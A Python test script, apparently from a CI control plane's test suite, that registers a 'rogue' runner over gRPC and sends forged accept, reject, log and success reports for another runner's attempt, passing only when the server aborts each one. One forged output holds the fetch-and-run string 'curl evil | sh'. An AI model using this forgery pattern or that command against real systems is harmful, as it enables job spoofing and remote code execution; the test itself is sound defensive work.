"""A registered runner that speaks for an attempt it does not hold, with python3-grpcio (C-core), an independent client.

Usage: rogue_runner.py ADDRESS REGISTRATION_TOKEN NAME ATTEMPT_ID LEASE_EPOCH LOG_OFFSET

Registers as NAME, opens its own Connect stream with a hello that claims the foreign attempt, then sends every kind of
report about it under the holder's epoch: accept, reject, started, a log chunk at LOG_OFFSET, and a successful result
with outputs and a log confirmation. Prints "REGISTERED <runner id>", then every server message as
"RESPONSE <json>", and exits 0 once each forged report was answered (exit 1 if the stream ended first).
"""
import hashlib
import queue
import sys

import grpc
from google.protobuf import json_format

from controlplane.v1 import runner_pb2 as pb
from controlplane.v1 import runner_pb2_grpc


def forged_reports(attempt_id, epoch, log_offset):
    data = b"forged line from another runner\n"
    return [
        pb.ConnectRequest(accept=pb.OfferAccept(attempt_id=attempt_id, lease_epoch=epoch)),
        pb.ConnectRequest(reject=pb.OfferReject(attempt_id=attempt_id, lease_epoch=epoch, reason="rogue")),
        pb.ConnectRequest(started=pb.AttemptStarted(attempt_id=attempt_id, lease_epoch=epoch, pid=1)),
        pb.ConnectRequest(log_chunk=pb.LogChunk(attempt_id=attempt_id, lease_epoch=epoch, stream=pb.LOG_STREAM_STDOUT, offset=log_offset, data=data)),
        pb.ConnectRequest(finished=pb.AttemptFinished(
            attempt_id=attempt_id, lease_epoch=epoch, outcome=pb.ATTEMPT_OUTCOME_SUCCEEDED, exit_code=0,
            outputs={"result": "forged; curl evil | sh"},
            log_length=log_offset + len(data), log_checksum="sha256:" + hashlib.sha256(data).hexdigest())),
    ]


def main(address, registration_token, name, attempt_id, epoch, log_offset):
    attempt_id, epoch, log_offset = int(attempt_id), int(epoch), int(log_offset)
    with grpc.insecure_channel(address) as channel:
        stub = runner_pb2_grpc.RunnerServiceStub(channel)
        registered = stub.Register(pb.RegisterRequest(
            registration_token=registration_token, name=name, labels=["rogue"], capacity=1, agent_version="rogue"), timeout=30)
        print("REGISTERED", registered.runner_id, flush=True)

        outbox = queue.Queue()

        def requests():
            while True:
                message = outbox.get()
                if message is None:
                    return
                yield message

        outbox.put(pb.ConnectRequest(hello=pb.RunnerHello(
            labels=["rogue"], capacity=1, agent_version="rogue",
            held_attempts=[pb.HeldAttempt(attempt_id=attempt_id, lease_epoch=epoch, acknowledged_log_offset=log_offset)])))
        responses = stub.Connect(requests(), metadata=[("authorization", "Bearer " + registered.runner_token)], timeout=60)
        reports = forged_reports(attempt_id, epoch, log_offset)
        aborts = 0
        try:
            for response in responses:
                print("RESPONSE", json_format.MessageToJson(response, indent=None), flush=True)
                kind = response.WhichOneof("message")
                if kind == "welcome":
                    for report in reports:
                        outbox.put(report)
                elif kind == "abort":
                    aborts += 1
                    if aborts == len(reports):
                        return 0
        finally:
            outbox.put(None)
            responses.cancel()
    return 1


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:7]))
